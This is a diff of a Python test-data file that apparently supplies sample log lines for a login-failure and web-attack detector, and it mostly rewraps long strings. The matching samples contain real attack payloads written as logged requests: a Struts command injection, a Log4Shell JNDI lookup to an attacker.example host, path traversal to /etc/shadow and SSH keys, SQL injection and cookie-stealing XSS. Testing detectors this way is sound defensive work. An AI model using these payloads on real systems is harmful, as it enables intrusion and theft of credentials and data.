@@ -93,7 +93,8 @@ FAMILIES = {
     ]),
     "ssh invalid user": ((0x1021,), [
         _H + "sshd[50879]: Invalid user test user from 61.2.3.4 port 49020",
-        _H + "sshd[12664]: Postponed keyboard-interactive for invalid user warez from 61.2.3.4 port 54197 ssh2 [preauth]",
+        _H + "sshd[12664]: Postponed keyboard-interactive for invalid user warez from 61.2.3.4 "
+        "port 54197 ssh2 [preauth]",
         _H + "sshd[3186]: error: PAM: unknown user for illegal user badguy from 61.2.3.4",
         _H + "sshd[4711]: Invalid user oracle from 61.2.3.4 port 4242",
         _H + "sshd[4711]: Illegal user test from 61.2.3.4",
@@ -105,11 +106,13 @@ FAMILIES = {
         _H + "sshd[4711]: error: PAM: User not known to the underlying authentication module for"
         " illegal user admin from 61.2.3.4",
     ], [
-        _H + "sshd[12664]: Postponed keyboard-interactive for john from 10.1.2.3 port 54197 ssh2 [preauth]",
+        _H + "sshd[12664]: Postponed keyboard-interactive for john from 10.1.2.3 port 54197 ssh2 "
+        "[preauth]",
         _H + "sshd[4711]: Connection closed by invalid-user.example.org port 22",
     ]),
     "root login refused": ((0x1022,), [
-        _H + "sshd[4711]: fatal: Access denied for user root by PAM account configuration [preauth]",
+        _H + "sshd[4711]: fatal: Access denied for user root by PAM account configuration "
+        "[preauth]",
         _H + "sshd[4711]: ROOT LOGIN REFUSED FROM 61.2.3.4 port 4242",
         _H + "sshd[4711]: User root from 61.2.3.4 not allowed because not listed in AllowUsers",
         _H + "login[811]: ROOT LOGIN REFUSED ON tty3",
@@ -125,7 +128,8 @@ FAMILIES = {
         " AllowUsers",
     ]),
     "too many authentication failures": ((0x1023,), [
-        _H + "sshd[4711]: Disconnecting invalid user test user 61.2.3.4 port 48544: Too many authentication failures [preauth]",
+        _H + "sshd[4711]: Disconnecting invalid user test user 61.2.3.4 port 48544: Too many "
+        "authentication failures [preauth]",
         _H + "sshd[4711]: error: maximum authentication attempts exceeded for root from"
         " 61.2.3.4 port 4242 ssh2 [preauth]",
         _H + "sshd[4711]: Disconnecting authenticating user root 61.2.3.4 port 4242: Too many"
@@ -152,9 +156,12 @@ FAMILIES = {
     "no identification string": ((0x1024,), [
         _H + "sshd[7006]: Connection reset by invalid user postgres 61.2.3.4 port 35541 [preauth]",
         _H + "sshd[19049]: error: Protocol major versions differ: 2 vs. 1",
-        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 4242: invalid format [preauth]",
-        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 4242: Connection corrupted [preauth]",
-        _H + "sshd[4711]: Connection closed by invalid user test user 61.2.3.4 port 50649 [preauth]",
+        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 4242: invalid "
+        "format [preauth]",
+        _H + "sshd[4711]: ssh_dispatch_run_fatal: Connection from 61.2.3.4 port 4242: Connection "
+        "corrupted [preauth]",
+        _H + "sshd[4711]: Connection closed by invalid user test user 61.2.3.4 port 50649 "
+        "[preauth]",
         _H + "sshd[4711]: Did not receive identification string from 61.2.3.4 port 4242",
         _H + "sshd[4711]: Bad protocol version identification 'GET / HTTP/1.1' from 61.2.3.4"
         " port 4242",
@@ -222,10 +229,14 @@ FAMILIES = {
         _H + "sshd[4711]: Connection from 61.2.3.4 port 4242 on 10.0.0.1 port 22 rdomain \"\"",
     ]),
     "pam failure": ((0x1025,), [
-        _H + "sshd[4711]: pam_winbind(sshd:auth): request wbcLogonUser failed: WBC_ERR_AUTH_ERROR, PAM error: PAM_AUTH_ERR (7), NTSTATUS: NT_STATUS_WRONG_PASSWORD, Error message was: The attempted logon is invalid.",
-        _H + "sshd[12374]: pam_winbind(sshd:auth): user 'CORP\\m.rossi' denied access (incorrect password or invalid membership)",
-        # RHEL's system-auth: pam_succeed_if after pam_unix refused the password.,
-        _H + 'sshd[2738]: pam_succeed_if(sshd:auth): requirement "uid >= 1000" not met by user "root"',
+        _H + "sshd[4711]: pam_winbind(sshd:auth): request wbcLogonUser failed: "
+        "WBC_ERR_AUTH_ERROR, PAM error: PAM_AUTH_ERR (7), NTSTATUS: NT_STATUS_WRONG_PASSWORD, "
+        "Error message was: The attempted logon is invalid.",
+        _H + "sshd[12374]: pam_winbind(sshd:auth): user 'CORP\\m.rossi' denied access (incorrect "
+        "password or invalid membership)",
+        # RHEL's system-auth: pam_succeed_if after pam_unix refused the password.
+        _H + 'sshd[2738]: pam_succeed_if(sshd:auth): requirement "uid >= 1000" not met by user '
+        '"root"',
         # util-linux login's later wording; polkit's helper and daemon.
         _H + "login[811]: FAILED LOGIN SESSION FROM tty3 FOR ops, Authentication failure",
         _H + "polkit-agent-helper-1[3096]: polkit-agent-helper-1: pam_authenticate failed:"
@@ -268,10 +279,12 @@ FAMILIES = {
         _H + "sshd[24200]: pam_unix(sshd:auth): check pass; user unknown",
         "Jun 14 15:16:02 combo sshd(pam_unix)[19937]: check pass; user unknown",
     ], [
-        # lightdm's pam_succeed_if of its password-less group: not met is the,
-        # usual password path, no failure (only RHEL's uid >= N after pam_unix is).,
-        "Aug  8 23:05:51 laptop lightdm: pam_succeed_if(lightdm:auth): requirement \"user ingroup nopasswdlogin\" not met by user \"alice\"",
-        _H + 'sshd[2738]: pam_succeed_if(sshd:account): requirement "user ingroup staff" was met by user "bob"',
+        # lightdm's pam_succeed_if of its password-less group: not met is the
+        # usual password path, no failure (only RHEL's uid >= N after pam_unix is).
+        "Aug  8 23:05:51 laptop lightdm: pam_succeed_if(lightdm:auth): requirement \"user ingroup "
+        "nopasswdlogin\" not met by user \"alice\"",
+        _H + 'sshd[2738]: pam_succeed_if(sshd:account): requirement "user ingroup staff" was met '
+        'by user "bob"',
         _H + "sshd[4711]: pam_sss(sshd:auth): authentication success; logname= uid=0 euid=0"
         " tty=ssh ruser= rhost=10.1.2.3 user=bob",
         _H + "sshd[4711]: pam_sss(sshd:auth): received for user bob: 0 (Success)",
@@ -282,7 +295,7 @@ FAMILIES = {
         _H + "vsftpd: pam_unix: session opened for user anon",
     ]),
     "FTP login failed": ((0x102C,), [
-        # vsftpd.log with a day of one digit.,
+        # vsftpd.log with a day of one digit.
         "Mon Jun  8 12:08:53 2020 [pid 27244] [user] FAIL LOGIN: Client \"::ffff:61.2.3.4\"",
         "Mon Jun 8 12:08:53 2020 [pid 27244] [user] FAIL LOGIN: Client \"::ffff:61.2.3.4\"",
         _H + 'vsftpd[153114]: [anonymous] FAIL LOGIN: Client "::ffff:61.2.3.4"',
@@ -442,10 +455,12 @@ FAMILIES = {
     ]),
     "web exploit": ((0x7010,), [
         _WEB + '/?XDEBUG_SESSION_START=phpstorm HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/struts2-showcase/$%7Ba=(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{\'id\'})).start()%7D/actionChain1.action HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/struts2-showcase/$%7Ba=(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'
+        '\'id\'})).start()%7D/actionChain1.action HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/tmui/locallb/workspace/tmshCmd.jsp HTTP/1.1" 404 196 "-" "python-requests/2.31.0"',
         _WEB + '/injection/%0d%0aSet-Cookie:x=1 HTTP/1.1" 404 271 "-" "Mozilla/5.0"',
-        _WEB + '//php-my-admin/config/config.inc.php?p=phpinfo(); HTTP/1.1" 404 345 "-" "Mozilla/4.0"',
+        _WEB + '//php-my-admin/config/config.inc.php?p=phpinfo(); HTTP/1.1" 404 345 "-" '
+        '"Mozilla/4.0"',
         # Log4Shell: in the request, a header; obfuscated, encoded.
         _WEB + '/?x=%24%7Bjndi%3Adns%3A%2F%2F60eca300c6.attacker.example%2Fa%7D HTTP/1.1" 200 1'
         ' "-" "M"',
@@ -543,21 +558,26 @@ FAMILIES = {
         _OK + '/docs/bash-functions.html?q=() HTTP/1.1" 200 1024 "-" "Mozilla/5.0 (X11)"',
     ]),
     "web traversal": ((0x7011,), [
-        # One step that begins a parameter's value, Tomcat's ..;/, a scanner's,
-        # traversal in its referrer (corpus 9a).,
+        # One step that begins a parameter's value, Tomcat's ..;/, a scanner's
+        # traversal in its referrer (corpus 9a).
         _WEB + '/download.php?file=../config.php HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/app/..;/manager/html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/ HTTP/1.1" 200 512 "https://www.example.com/download?file=../../../../etc/shadow" "Mozilla/5.0"',
-        _WEB + '/view.php?template=..%u2216..%u2216..%u2216etc%u2216passwd HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/ HTTP/1.1" 200 512 "https://www.example.com/download?file=../../../../etc/shadow"'
+        ' "Mozilla/5.0"',
+        _WEB + '/view.php?template=..%u2216..%u2216..%u2216etc%u2216passwd HTTP/1.1" 200 1024 "-" '
+        '"Mozilla/5.0"',
         _WEB + '/index.php?file=/etc/hosts HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/get?code=cat+%2Fetc%2Fsubuid HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/get?test=/sys/class HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/x.php?f=/proc/self/status HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/index.php?file=c:%5CSystem32%5CInetsrv%5Cmetabase.xml HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/index.php?file=c:%5CSystem32%5CInetsrv%5Cmetabase.xml HTTP/1.1" 200 1024 "-" '
+        '"Mozilla/5.0"',
         _WEB + '/index.php?file=C:/inetpub/wwwroot/global.asa HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/get?foo=arg&path_comp=.ssh/id_rsa HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/lang.php?lang=/%25%5c..%25%5c..%25%5c..winnt/desktop.ini HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..'
+        '&name=%2bCSCOE%2b/portal_inc.lua HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/lang.php?lang=/%25%5c..%25%5c..%25%5c..winnt/desktop.ini HTTP/1.1" 200 1024 "-" '
+        '"Mozilla/5.0"',
         _WEB + '/cgi-bin/view.cgi?file=../../../../etc/passwd HTTP/1.1" 400 1024 "-" "curl/7.1"',
         _WEB + '/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1" 200 1024 "-" "M"',
         "[Mon Nov 22 00:00:15 2004] [error] [client 195.237.238.120] File does not exist:"
@@ -579,9 +599,10 @@ FAMILIES = {
         _HAPROXY % 200 + '/cgi-bin/x?f=../../../../etc/passwd&pad=aaaaaaaaaaaaaaaa',
         # CVE-2021-42013: the dots encoded twice with a percent.
     ], [
-        # One ../ in a path: a page's relative link as a crawler sends it.,
+        # One ../ in a path: a page's relative link as a crawler sends it.
         _OK + '/docs/guide/../images/fig1.png HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _OK + '/ HTTP/1.1" 200 512 "https://www.example.com/docs/guide/../index.html" "Mozilla/5.0"',
+        _OK + '/ HTTP/1.1" 200 512 "https://www.example.com/docs/guide/../index.html" '
+        '"Mozilla/5.0"',
         _OK + '/etc/styles.css HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/account?next=/account/settings HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/x?ver=1..2 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
@@ -614,20 +635,25 @@ FAMILIES = {
         _WEB[:-4] + '<SCRIPT>NXSSTEST</SCRIPT> / HTTP/1.1" 400 3386 "-" "-"',
     ], []),
     "web SQL injection": ((0x7012,), [
-        # The independent generator's: MySQL's version comments, encoded twice.,
-        _WEB + '/product.php?id=1/*!50000UNION*//*!50000SELECT*/1,2,3 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/category.php?cat=1/%2A%2150000UNION%2A//%2A%2150000SELECT%2A/1%2C2%2C3 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/search?q=1%2527%253B%2520DROP%2520TABLE%2520users%253B%2520-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/login.php?user=1%2529%2520AND%25201=CONVERT%2528int%252C%2528SELECT%2520%2540%2540version%2529%2529--&pass=x HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        # Round eleven (OWASP CRS's tests, SecLists, libinjection): a quoted string,
-        # compared after OR without a quote before it, the same word both sides,,
-        # numbers compared, HAVING, IS NULL, UNION SELECT at the end, keywords,
-        # split by comments, T-SQL's DECLARE/EXEC, statements after a semicolon,,
-        # sub-selects of TOP or a function, ) FROM t WHERE, Oracle's UTL_HTTP,,
-        # MySQL's EXTRACTVALUE, T-SQL's --sp_password.,
+        # The independent generator's: MySQL's version comments, encoded twice.
+        _WEB + '/product.php?id=1/*!50000UNION*//*!50000SELECT*/1,2,3 HTTP/1.1" 200 1024 "-" '
+        '"Mozilla/5.0"',
+        _WEB + '/category.php?cat=1/%2A%2150000UNION%2A//%2A%2150000SELECT%2A/1%2C2%2C3 HTTP/1.1" '
+        '200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/search?q=1%2527%253B%2520DROP%2520TABLE%2520users%253B%2520-- HTTP/1.1" 200 1024 '
+        '"-" "Mozilla/5.0"',
+        _WEB + '/login.php?user=1%2529%2520AND%25201=CONVERT%2528int%252C%2528SELECT%2520%2540%254'
+        '0version%2529%2529--&pass=x HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        # Round eleven (OWASP CRS's tests, SecLists, libinjection): a quoted string
+        # compared after OR without a quote before it, the same word both sides,
+        # numbers compared, HAVING, IS NULL, UNION SELECT at the end, keywords
+        # split by comments, T-SQL's DECLARE/EXEC, statements after a semicolon,
+        # sub-selects of TOP or a function, ) FROM t WHERE, Oracle's UTL_HTTP,
+        # MySQL's EXTRACTVALUE, T-SQL's --sp_password.
         _WEB + '/page.php?pid=12+or%20\'a\'=\'a HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/item.php?id=a\'%20or%20\'\'=\' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/page.php?pid=%20or%20%27whatever%27%20in%20%28%27whatever%27%29 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/page.php?pid=%20or%20%27whatever%27%20in%20%28%27whatever%27%29 HTTP/1.1" 200 '
+        '1024 "-" "Mozilla/5.0"',
         _WEB + '/cart.asp?prodid=1+or+\'text\'+>+\'t\' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/user/profile?uid=or%201=1 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/page.php?pid=-1%20or%20a%3Da-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
@@ -636,19 +662,25 @@ FAMILIES = {
         _WEB + '/x.php?uid=%20or%202+between%201+and+3 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/x.php?id=12%20or%201%20--%27 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/search.php?q=1%20having%201%3D1-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/page.php?pid=x%27%20AND%20email%20IS%20NULL%3B%20-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/page.php?pid=x%27%20AND%20email%20IS%20NULL%3B%20-- HTTP/1.1" 200 1024 "-" '
+        '"Mozilla/5.0"',
         _WEB + '/page.php?pid=-1%20UNION%20ALL%20SELECT HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/search.php?q=1%5Cx27UNION%20SELECT HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/cart.asp?prodid=uni/**/on+sel/**/ect HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/page.php?pid=declare%20%40s%20varchar%20%28200%29%20select%20%40s%20%3D%200x73 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/page.php?pid=declare%20%40s%20varchar%20%28200%29%20select%20%40s%20%3D%200x73 '
+        'HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/item.php?id=1;exec(@s) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/products.php?id=1;SELECT%20* HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/catalog/p.php?id=a@var+select+@var+as+var+into+temp+end+-- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/catalog/p.php?id=a@var+select+@var+as+var+into+temp+end+--'
+        ' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/cart.asp?prodid=1\'+(select+top+1 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/news/view.php?nid=1%20AND%20%28select%20DCount%28last%28username%29 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/page.php?pid=1%29%20from%20users%20where%20username%3D%27ad1min%27%29 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/news/view.php?nid=1%20AND%20%28select%20DCount%28last%28username%29 HTTP/1.1" '
+        '200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/page.php?pid=1%29%20from%20users%20where%20username%3D%27ad1min%27%29 HTTP/1.1" '
+        '200 1024 "-" "Mozilla/5.0"',
         _WEB + '/item.php?id=%27%7C%7CUTL_HTTP.REQUEST HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/x.php?id=and%20extractvalue%281%2C%20version%28%29%29%20--%20- HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/x.php?id=and%20extractvalue%281%2C%20version%28%29%29%20--%20- HTTP/1.1" 200 '
+        '1024 "-" "Mozilla/5.0"',
         _WEB + '/page.php?pid=-1--sp_password HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1"'
         ' 200 1024 "-" "Mozilla/5.0"',
@@ -732,11 +764,16 @@ FAMILIES = {
         _OK + '/blog/2024/11/comments%2F**%2Fare%2Fback HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
     ]),
     "web XSS": ((0x7013,), [
-        _WEB + '/comment.php?name=javascript%253Aalert%25281%2529 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/error.jsp?msg=<a+href=javascript&colon;alert&lpar;1&rpar;>X</a> HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/comment?text=%22%3E%3Ciframe%20src=%22http://x.example/%22%3E HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/guestbook.php?name=%3C%73%63%72%69%70%74%3E+%64 HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
-        _WEB + '/get/char_test?mime=text/xml&body=%22onzoom%3D HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/comment.php?name=javascript%253Aalert%25281%2529 HTTP/1.1" 200 1024 "-" '
+        '"Mozilla/5.0"',
+        _WEB + '/error.jsp?msg=<a+href=javascript&colon;alert&lpar;1&rpar;>X</a>'
+        ' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/comment?text=%22%3E%3Ciframe%20src=%22http://x.example/%22%3E HTTP/1.1" 200 1024 '
+        '"-" "Mozilla/5.0"',
+        _WEB + '/guestbook.php?name=%3C%73%63%72%69%70%74%3E+%64'
+        ' HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _WEB + '/get/char_test?mime=text/xml&body=%22onzoom%3D HTTP/1.1" 200 1024 "-" '
+        '"Mozilla/5.0"',
         _WEB + '/search?q=%3Csvg/onload=alert(1)%3E HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1" 200 1024'
         ' "-" "Mozilla/5.0"',
@@ -756,7 +793,8 @@ FAMILIES = {
         # (Apache escapes a quote of the request: \\".)
         _WEB + '/a?r=<object+data=\\"data:text/html;base64,PHNjcmlwdD4=\\"> HTTP/1.1" 200 7 "-"'
         ' "M"',
-        _WEB + '/guestbook.php HTTP/1.1" 400 298 "<HtMl OnPoinTerEnter = (prompt)``>" "Mozilla/5.0"',
+        _WEB + '/guestbook.php HTTP/1.1" 400 298 "<HtMl OnPoinTerEnter = (prompt)``>" '
+        '"Mozilla/5.0"',
         _WEB + '/ HTTP/1.1" 200 31219 "-" "kbfbh<script>alert(1)</script>jc3wy"',
         # A scanner's request that begins with the script (no method).
     ], [
@@ -777,7 +815,8 @@ FAMILIES = {
         _SYSLOG_OK + '/js/script.js HTTP/1.1" 200 512 "-" "curl/8.0"',
     ]),
     "web scanner": ((0x7014,), [
-        _WEB[:-4] + 'OPTIONS /nmaplowercheck1733546380 HTTP/1.1" 405 0 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"',
+        _WEB[:-4] + 'OPTIONS /nmaplowercheck1733546380 HTTP/1.1" 405 0 "-" "Mozilla/5.0 '
+        '(compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"',
         _WEB + '/phpMyAdmin/scripts/setup.php HTTP/1.1" 200 512 "-" "libwww-perl/6.67"',
         _WEB + '/muieblackcat HTTP/1.1" 404 18 "-" "-"',
         _WEB + '/testproxy.php HTTP/1.1" 404 18 "-" "Mozilla/5.0"',
@@ -798,7 +837,8 @@ FAMILIES = {
         _WEB + '/c99.php HTTP/1.1" 404 548 "-" "Go-http-client/1.1"',
         _WEB + '/actuator/heapdump HTTP/1.1" 403 548 "-" "Go-http-client/1.1"',
         _WEB + '/_vti_pvt/service.cnf HTTP/1.1" 404 548 "-" "curl/7.68.0"',
-        _WEB + '/admin/fckeditor/editor/filemanager/connectors/php/upload.php HTTP/1.1" 403 548 "-" "curl/7.68.0"',
+        _WEB + '/admin/fckeditor/editor/filemanager/connectors/php/upload.php HTTP/1.1" 403 548 '
+        '"-" "curl/7.68.0"',
         _WEB + '/config/database.yml HTTP/1.1" 404 548 "-" "curl/7.68.0"',
         _WEB + '/.idea/workspace.xml HTTP/1.1" 404 548 "-" "curl/7.68.0"',
         _WEB + '/admin/ HTTP/1.1" 404 1024 "-" "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)'
@@ -864,7 +904,7 @@ FAMILIES = {
         ' scans in https://docs-cortex.paloaltonetworks.com/r/1/Cortex-Xpanse/Scanning-activity"',
         _WEB + '/ HTTP/1.1" 403 233 "-" "l9tcpid/v1.1.0"',
     ], [
-        # Found (200), or any page gone (410): no probe.,
+        # Found (200), or any page gone (410): no probe.
         _OK + '/server-status?auto HTTP/1.1" 200 548 "-" "collectd/5.12"',
         _OK + '/wp-includes/wlwmanifest.xml HTTP/1.1" 200 1045 "-" "Mozilla/5.0"',
         _OK + '/old-offer.html HTTP/1.1" 410 200 "-" "Mozilla/5.0"',
@@ -898,7 +938,8 @@ FAMILIES = {
         + _NGINX_TAIL,
     ]),
     "mail login failure": ((0x1027,), [
-        "Dec  7 10:00:01 mx1 saslauthd[811]: do_auth         : auth failure: [user=dave] [service=smtp] [realm=] [mech=pam] [reason=PAM auth error]",
+        "Dec  7 10:00:01 mx1 saslauthd[811]: do_auth         : auth failure: [user=dave] "
+        "[service=smtp] [realm=] [mech=pam] [reason=PAM auth error]",
         # OpenSMTPD.
         "Mar  9 03:47:26 mx smtpd[22899]: de68e766d532c59d smtp authentication"
         " user=bob@example.org result=permfail",
@@ -982,7 +1023,8 @@ FAMILIES = {
         "Jan 14 20:28:07 mail imapd[19343]: Login excessive login failures user=bob auth=bob"
         " host=bad.example.net [61.2.3.4]",
     ], [
-        "Dec  7 10:00:01 mx1 saslauthd[811]: do_auth         : auth success: [user=dave] [service=smtp] [realm=] [mech=pam]",
+        "Dec  7 10:00:01 mx1 saslauthd[811]: do_auth         : auth success: [user=dave] "
+        "[service=smtp] [realm=] [mech=pam]",
         "Nov 22 10:00:01 mail dovecot: imap-login: Login: user=<bob>, method=PLAIN,"
         " rip=10.1.2.3, lip=10.0.0.1, mpid=1, TLS",
         "Nov 22 10:00:01 mail dovecot: imap-login: Login aborted: Connection closed (no auth"
@@ -1105,8 +1147,11 @@ FAMILIES = {
         " [client 10.1.2.3:5678] AH01697: auth_ldap authenticate: accepting bob",
     ]),
     "web ModSecurity": ((0x7015,), [
-        # naxsi 1.x: config=block.,
-        _NGINX + "NAXSI_FMT: ip=61.2.3.4&server=www.example.com&uri=/index.php&vers=1.6&total_processed=7&total_blocked=3&config=block&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_name0=page, client: 61.2.3.4, server: www.example.com, request: \"GET /index.php HTTP/1.1\", host: \"www.example.com\"",
+        # naxsi 1.x: config=block.
+        _NGINX + "NAXSI_FMT: ip=61.2.3.4&server=www.example.com&uri=/index.php&vers=1.6&total_proc"
+        "essed=7&total_blocked=3&config=block&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_name0="
+        "page, client: 61.2.3.4, server: www.example.com, request: \"GET /index.php HTTP/1.1\", "
+        "host: \"www.example.com\"",
         # ModSecurity 2.7 and earlier: the rule's tags first, then "Access denied".
         "[Mon Dec 23 13:12:31 2013] [error] [client 61.2.3.4] ModSecurity:  [file"
         " \"/etc/httpd/modsecurity.d/activated_rules/modsecurity_crs_21_protocol_anomalies.conf\"]"
@@ -1137,7 +1182,10 @@ FAMILIES = {
         "&uri=/&learning=0&vers=0.56&total_processed=3&total_blocked=2&block=1&cscore0=$SQL"
         "&score0=8, client: 61.2.3.4, server: example.org, request: \"GET /?q=1'or'1 HTTP/1.1\"",
     ], [
-        _NGINX + "NAXSI_FMT: ip=61.2.3.4&server=www.example.com&uri=/index.php&vers=1.6&total_processed=7&total_blocked=3&config=learning&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_name0=page, client: 61.2.3.4, server: www.example.com, request: \"GET /index.php HTTP/1.1\", host: \"www.example.com\"",
+        _NGINX + "NAXSI_FMT: ip=61.2.3.4&server=www.example.com&uri=/index.php&vers=1.6&total_proc"
+        "essed=7&total_blocked=3&config=learning&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_nam"
+        "e0=page, client: 61.2.3.4, server: www.example.com, request: \"GET /index.php "
+        "HTTP/1.1\", host: \"www.example.com\"",
         # naxsi learning, or a request it let through: what it would block.
         "2017/01/03 16:08:34 [error] 5810#0: *683 NAXSI_FMT: ip=10.1.2.3&server=dummy&uri=/api"
         "&learning=1&vers=0.55&total_processed=41&total_blocked=41&block=1, client: 10.1.2.3",
@@ -1159,9 +1207,10 @@ FAMILIES = {
         ' lock global mutex [uri "/"]',
     ]),
     "web malformed request": ((0x7016,), [
-        "[Wed Mar 04 10:00:00.123456 2026] [core:error] [pid 1:tid 2] [client 61.2.3.4:5555] AH00561: Size of a request header field exceeds server limit.",
-        _WEB[:-4] + 'GET /AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA HTTP/1.1" 414 248 "-" "-"',
-        # Round eleven: request lines that are no HTTP request, answered 400.,
+        "[Wed Mar 04 10:00:00.123456 2026] [core:error] [pid 1:tid 2] [client 61.2.3.4:5555] "
+        "AH00561: Size of a request header field exceeds server limit.",
+        _WEB[:-4] + 'GET /' + 'A' * 300 + ' HTTP/1.1" 414 248 "-" "-"',
+        # Round eleven: request lines that are no HTTP request, answered 400.
         _WEB[:-4] + 'MGLNDD_203.0.113.17_443" 400 157 "-" "-"',
         _WEB[:-4] + 'PRI * HTTP/2.0" 400 157 "-" "-"',
         _WEB[:-4] + 'GET \\\\ HTTP/1.1" 400 157 "-" "-"',
@@ -1246,8 +1295,8 @@ FAMILIES = {
         ' fe_https~ fe_https/<NOSRV> -1/-1/-1/-1/384 400 187 - - PR-- 220/168/0/10/0 0/0'
         ' "<BADREQ>"',
     ], [
-        # A connection that sent nothing (a browser's preconnect), a timeout, a,
-        # request the application refused, OPTIONS *, SSDP's M-SEARCH, a proxy's.,
+        # A connection that sent nothing (a browser's preconnect), a timeout, a
+        # request the application refused, OPTIONS *, SSDP's M-SEARCH, a proxy's.
         _OK[:-4] + '" 400 157 "-" "-"',
         _OK[:-4] + '-" 408 0 "-" "-"',
         _OK[:-4] + 'GET /api/v1/items?id=abc HTTP/1.1" 400 157 "-" "-"',
